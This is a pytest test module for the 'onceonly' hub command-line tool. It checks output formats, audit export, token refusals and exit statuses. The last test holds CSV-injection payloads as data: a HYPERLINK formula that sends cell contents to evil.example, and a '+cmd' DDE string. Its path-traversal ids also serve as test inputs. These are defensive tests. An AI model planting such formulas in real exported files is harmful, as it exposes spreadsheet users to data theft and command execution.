"""Every data command of ``onceonly`` in its three ``--output`` forms, the public reads
without a token, the new tasks (departments, clients, audit export) and the failures
with their exit statuses, against one real hub on loopback (SQLite) shared by the
module. ``main`` runs in-process: standard output is not a terminal, so JSON is the
default, as scripts expect."""

import csv
import functools
import http.server
import io
import json
import threading
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest
from joserfc.jwk import ECKey

from onceonly.adapters import public_jwks
from onceonly.hub.cli import main

from tests.hub_testing import RunningHub, catalogue_hub

CLIENT = "tax-adapter"


@pytest.fixture(scope="module", params=["sqlite"])
def hub(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[RunningHub]:
    with catalogue_hub(request, tmp_path_factory) as hub, hub.admin() as admin:
        key = ECKey.generate_key("P-256", auto_kid=True)
        admin.put_client(CLIENT, department="tax", jwks=public_jwks(key))
        admin.create_grant(
            consumer="tax", item="person.identity", purpose="tax-assessment", legal_basis="test"
        )
        yield hub


@pytest.fixture
def cli(hub: RunningHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> RunningHub:
    """The CLI pointed at the hub, as its administrator (break-glass), with nothing of
    this machine's: no session file, no data directory, no other token."""
    monkeypatch.setenv("ONCEONLY_HUB_URL", hub.url)
    monkeypatch.setenv("ONCEONLY_SESSION_FILE", str(tmp_path / "session.json"))
    monkeypatch.setenv("ONCEONLY_DATA_DIR", str(tmp_path / "elsewhere"))
    monkeypatch.setenv("ONCEONLY_ADMIN_TOKEN", hub.keys.admin_token)
    monkeypatch.delenv("ONCEONLY_TOKEN", raising=False)
    return hub


def run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    status = main(argv)
    captured = capsys.readouterr()
    return status, captured.out, captured.err


# (command, the rows' member in the JSON answer or None for a list or one object,
#  a table column, a CSV column)
DATA_COMMANDS = [
    (["items", "list"], None, "LATEST_VERSION", "legal_basis.text"),
    (["items", "show", "person.identity"], None, "versions", "versions"),
    (["department", "list"], "departments", "ADAPTER_URL", "adapter_url"),
    (["department", "show", "tax"], None, "adapter_url", "adapter_url"),
    (["client", "list"], "clients", "STATUS", "kids"),
    (["client", "list", "--department", "tax"], "clients", "CLIENT_ID", "department"),
    (["client", "show", CLIENT], None, "status", "kids"),
    (["grant", "list"], None, "VALID_UNTIL", "legal_basis"),
    (["access", "purposes"], "purposes", "CODE", "description"),
    (["access", "list"], "requests", None, None),
    (["access", "grants"], "grants", None, None),
    (["registry", "changes"], "changes", None, None),
    (["people", "list"], "people", None, None),
    (["audit", "entries", "--limit", "5"], "entries", "ACTION", "entry.action"),
    (["events", "dead-letters"], "deliveries", None, None),
]


@pytest.mark.usefixtures("cli")
@pytest.mark.parametrize(
    ("argv", "rows", "column", "csv_column"), DATA_COMMANDS, ids=lambda v: str(v)
)
def test_each_data_command_in_each_form(
    argv: list[str],
    rows: str | None,
    column: str | None,
    csv_column: str | None,
    capsys: pytest.CaptureFixture[str],
) -> None:
    status, out, err = run(argv, capsys)
    assert status == 0, err
    answer = json.loads(out)  # the default here: standard output is not a terminal
    assert json.loads(run([*argv, "--output", "json"], capsys)[1]) == answer
    listed = answer[rows] if rows else answer

    status, table, err = run([*argv, "--output", "table"], capsys)
    assert status == 0, err
    if not listed:
        assert (table, err.startswith("no ")) == ("", True)
    elif isinstance(listed, dict):  # one object: a line per member
        assert column in [line.split()[0] for line in table.splitlines()]
    elif column is not None:
        assert column in table.splitlines()[0].split()
    assert "Traceback" not in err

    status, written, err = run([*argv, "-o", "csv"], capsys)
    assert status == 0, err
    read = list(csv.DictReader(io.StringIO(written)))
    assert len(read) == (1 if isinstance(listed, dict) else len(listed))
    if csv_column is not None:
        assert csv_column in read[0]


@pytest.mark.usefixtures("cli")
def test_keys_show_in_each_form(
    monkeypatch: pytest.MonkeyPatch, hub: RunningHub, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ONCEONLY_DATA_DIR", str(hub.settings.data_dir))
    keys = json.loads(run(["keys", "show"], capsys)[1])["keys"]
    assert isinstance(keys[0]["active_from"], int)  # JSON keeps the hub's numbers
    table = run(["keys", "show", "-o", "table"], capsys)[1].splitlines()
    assert table[0].split() == ["KID", "ACTIVE_FROM", "RETIRE_AT"]
    assert datetime.fromisoformat(table[1].split()[1]).utcoffset() is not None  # not seconds
    assert run(["keys", "show", "-o", "csv"], capsys)[1].startswith("kid,active_from")


def test_the_catalogue_is_read_without_signing_in(
    cli: RunningHub, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("ONCEONLY_ADMIN_TOKEN")  # no credential at all
    status, out, err = run(["items", "list", "--owner", "tax"], capsys)
    assert status == 0, err
    assert {item["id"] for item in json.loads(out)} >= {"tax.debt-status"}
    status, out, err = run(["items", "show", "tax.debt-status", "-o", "table"], capsys)
    assert status == 0, err
    assert "owner" in out
    with pytest.raises(SystemExit, match="not signed in"):  # the rest needs a sign-in
        main(["department", "list"])


def test_a_public_read_ignores_a_stale_token(
    cli: RunningHub, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ONCEONLY_TOKEN", "expired-or-wrong")
    assert run(["items", "list"], capsys)[0] == 0


@pytest.mark.usefixtures("cli")
def test_departments_are_listed_and_shown(capsys: pytest.CaptureFixture[str]) -> None:
    departments = json.loads(run(["department", "list"], capsys)[1])["departments"]
    assert "tax" in {d["id"] for d in departments}
    shown = json.loads(run(["department", "show", "tax"], capsys)[1])
    assert shown["name"] == "Tax and Customs Board"
    status, _, err = run(["department", "show", "no-such-department"], capsys)
    assert (status, err.startswith("refused: HTTP 404")) == (1, True)


@pytest.mark.usefixtures("cli")
def test_clients_are_listed_by_department_and_shown(capsys: pytest.CaptureFixture[str]) -> None:
    listed = json.loads(run(["client", "list", "--department", "tax"], capsys)[1])["clients"]
    assert [c["client_id"] for c in listed] == [CLIENT]
    assert json.loads(run(["client", "list", "--department", "civil-registry"], capsys)[1]) == {
        "clients": []
    }
    shown = json.loads(run(["client", "show", CLIENT], capsys)[1])
    assert shown == listed[0]
    status, out, err = run(["client", "show", "no-such-client"], capsys)
    assert (status, out) == (1, "")
    assert "No such client" in err
    assert err.count("\n") == 1


@pytest.mark.usefixtures("cli")
def test_a_client_is_disabled_and_not_enabled_while_its_tokens_may_live(
    capsys: pytest.CaptureFixture[str],
) -> None:
    status, out, err = run(["client", "disable", CLIENT, "-o", "table"], capsys)
    assert status == 0, err
    assert ["status", "disabled"] in [line.split() for line in out.splitlines()]
    status, out, err = run(["client", "enable", CLIENT], capsys)
    assert (status, out) == (1, "")
    assert err.startswith("refused: HTTP 409: The client's earlier tokens are still alive")


def export(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    return run(["audit", "export", "--action", "registry.item.put", *argv], capsys)


@pytest.mark.usefixtures("cli")
def test_audit_export_to_stdout_as_json_lines_and_csv(capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = export([], capsys)
    assert status == 0, err
    lines = [json.loads(line) for line in out.splitlines()]
    assert len(lines) >= 17  # the starter catalogue's items
    assert {line["entry"]["action"] for line in lines} == {"registry.item.put"}
    status, out, err = export(["--format", "csv"], capsys)
    assert status == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(lines)
    assert rows[0]["action"] == "registry.item.put"


@pytest.mark.usefixtures("cli")
def test_audit_export_to_a_new_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "audit.jsonl"
    status, out, err = export(["--file", str(target)], capsys)
    assert (status, out, err) == (0, "", "")
    exported = [json.loads(line) for line in target.read_text().splitlines()]
    assert {line["entry"]["action"] for line in exported} == {"registry.item.put"}
    assert [p.name for p in tmp_path.iterdir() if "audit" in p.name] == ["audit.jsonl"]

    status, _, err = export(["--file", str(target)], capsys)  # never overwritten
    assert (status, err) == (1, f"{target} exists: name a new file\n")
    status, _, err = export(["--file", str(tmp_path / "missing" / "audit.jsonl")], capsys)
    assert status == 1
    assert (
        err == f"cannot write {tmp_path / 'missing' / 'audit.jsonl'}: No such file or directory\n"
    )


@pytest.mark.usefixtures("cli")
def test_a_refused_export_leaves_no_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ONCEONLY_TOKEN", "not-a-real-token")
    target = tmp_path / "audit.csv"
    status, _, err = export(["--file", str(target), "--format", "csv"], capsys)
    assert (status, err.startswith("refused: HTTP 401")) == (1, True)
    assert [p.name for p in tmp_path.iterdir() if "audit" in p.name] == []


@pytest.mark.usefixtures("cli")
@pytest.mark.parametrize(
    "argv",
    [["people", "list"], ["department", "list"], ["audit", "entries"], ["events", "dead-letters"]],
    ids=" ".join,
)
def test_a_bad_token_is_refused_in_one_line(
    argv: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ONCEONLY_TOKEN", "not-a-real-token")
    status, out, err = run(argv, capsys)
    assert (status, out) == (1, "")
    assert err.startswith("refused: HTTP 401: ")
    assert len(err.splitlines()) == 1
    assert "not-a-real-token" not in err


@pytest.mark.usefixtures("cli")
def test_a_missing_file_is_one_line_and_exit_1(tmp_path: Path) -> None:
    missing = tmp_path / "missing.jwks"
    with pytest.raises(SystemExit) as ended:
        main(["client", "put", "x-adapter", "--department", "tax", "--jwks", str(missing)])
    assert ended.value.code == f"cannot read {missing}: No such file or directory"


@pytest.mark.parametrize(
    "argv",
    [
        ["items", "list", "-o", "table"],
        ["department", "list"],
        ["audit", "export"],
        ["events", "dead-letters"],
        ["events", "replay", "0" * 32],
    ],
    ids=" ".join,
)
def test_an_unreachable_hub_is_exit_2(
    argv: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ONCEONLY_TOKEN", "a-token")
    status, out, err = run([*argv, "--hub", "http://127.0.0.1:9"], capsys)
    assert (status, out) == (2, "")
    assert err.startswith("cannot reach the hub at http://127.0.0.1:9: ")


def test_the_version_is_printed_in_process(capsys: pytest.CaptureFixture[str]) -> None:
    from importlib.metadata import version

    with pytest.raises(SystemExit) as ended:
        main(["--version"])
    assert ended.value.code == 0
    assert capsys.readouterr().out == f"onceonly {version('onceonly')}\n"


@pytest.mark.usefixtures("cli")
@pytest.mark.parametrize(
    "typed", ["../departments/tax", "tax-adapter?x=1", "tax-adapter#frag", "..", "a/b"]
)
def test_an_id_is_one_path_segment_never_another_route(
    typed: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """An id typed on the command line is sent percent-encoded: it names that id (there
    is none such here), never another route nor a shortened id."""
    status, out, err = run(["client", "show", typed], capsys)
    assert (status, out) == (1, "")
    assert err.startswith(("refused: HTTP 404", "refused: HTTP 400")), err
    assert "Traceback" not in err


class _QuietWebServer(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:  # not into our stderr
        pass


def test_a_server_that_is_not_a_hub_is_one_line_and_exit_2(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A web server at the hub's address (an HTML 404 page): one line, exit 2 as for a
    hub that cannot be reached, and none of the page in the terminal."""
    monkeypatch.setenv("ONCEONLY_SESSION_FILE", str(tmp_path / "session.json"))
    (tmp_path / "site").mkdir()
    handler = functools.partial(_QuietWebServer, directory=tmp_path / "site")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}"
        status, out, err = run(["items", "list", "--hub", url], capsys)
    finally:
        server.shutdown()
        server.server_close()
    assert (status, out) == (2, "")
    assert err.count("\n") == 1
    assert f"the server at {url} is not an Onceonly hub (it answered HTTP 404" in err
    assert "<" not in err  # nothing of the HTML page


@pytest.mark.usefixtures("cli")
def test_csv_never_hands_a_spreadsheet_a_formula(
    hub: RunningHub, capsys: pytest.CaptureFixture[str]
) -> None:
    """Text an administrator (or a caller) wrote is data in ``-o csv`` too, as in the
    hub's own CSV exports (decision 0075)."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    with hub.admin() as admin:
        admin.put_department("csv-formula", name=formula, description="+cmd|' /C calc'!A0")
    status, written, _ = run(["department", "show", "csv-formula", "-o", "csv"], capsys)
    assert status == 0
    [row] = list(csv.DictReader(io.StringIO(written)))
    assert (row["name"], row["description"]) == ("'" + formula, "'+cmd|' /C calc'!A0")
    listed = list(csv.DictReader(io.StringIO(run(["department", "list", "-o", "csv"], capsys)[1])))
    assert {r["name"] for r in listed if r["id"] == "csv-formula"} == {"'" + formula}
